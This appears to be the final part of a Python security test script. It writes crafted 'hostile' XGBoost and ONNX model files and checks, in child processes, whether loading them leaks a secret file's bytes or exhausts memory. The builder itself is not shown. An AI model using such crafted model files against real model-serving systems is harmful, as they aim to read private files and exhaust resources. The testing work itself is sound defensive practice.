            for mode in ("xgb-capi", "xgb-dmatrix"):
                status, rep = _run_child(mode, path, 20, "/")
                if status != "exit 0":
                    cells.append(status)
                elif "predict" in rep:
                    cells.append("load ok, predict %s (max RSS %d MiB)" % (
                        rep["predict"], rep["max_rss_mib"]))
                else:
                    cells.append("load %s" % rep.get("load"))
            rows.append((e["file"], e["expect"], " | ".join(cells)))
        else:
            status, rep = _run_child("onnx", path, 12, "/")
            if status == "exit 0" and "head" in rep:
                leaked = rep["head"] == secret[:len(rep["head"])] or (
                    e["file"] == "onnx-external-constantofshape.bin"
                    and rep["head"] == secret[0] * LEAK_LEN)
                cell = "%s: %d output bytes in %ss, head %r (max RSS %d MiB)" % (
                    "LEAK" if leaked else "ran", rep["output_bytes"], rep["seconds"], rep["head"],
                    rep["max_rss_mib"])
            elif status == "exit 0":
                cell = "refused: load %s" % rep.get("load")
            else:
                cell = status
            rows.append((e["file"], e["expect"], cell))
    import shutil

    shutil.rmtree(controls)
    width = max(len(r[0]) for r in rows)
    for f, expect, cell in rows:
        print("%-*s  %-6s  %s" % (width, f, expect, cell))


def main():
    if len(sys.argv) == 4 and sys.argv[1] == "--child":
        _child(sys.argv[2], sys.argv[3])
        return
    args = [a for a in sys.argv[1:] if a != "--verify"]
    if len(args) != 1:
        sys.exit(__doc__)
    entries = build(args[0])
    print("%d hostile models written to %s" % (len(entries), args[0]))
    if "--verify" in sys.argv[1:]:
        print("Each run in a child process, cwd /. XGBoost: load from buffer, then predict "
              "zeros (2, num_feature) via XGBoosterPredictFromDense (as sandscore) | via "
              "Booster.predict(DMatrix). ONNX: InferenceSession(bytes).run(zeros).")
        verify(args[0], entries)


if __name__ == "__main__":
    main()
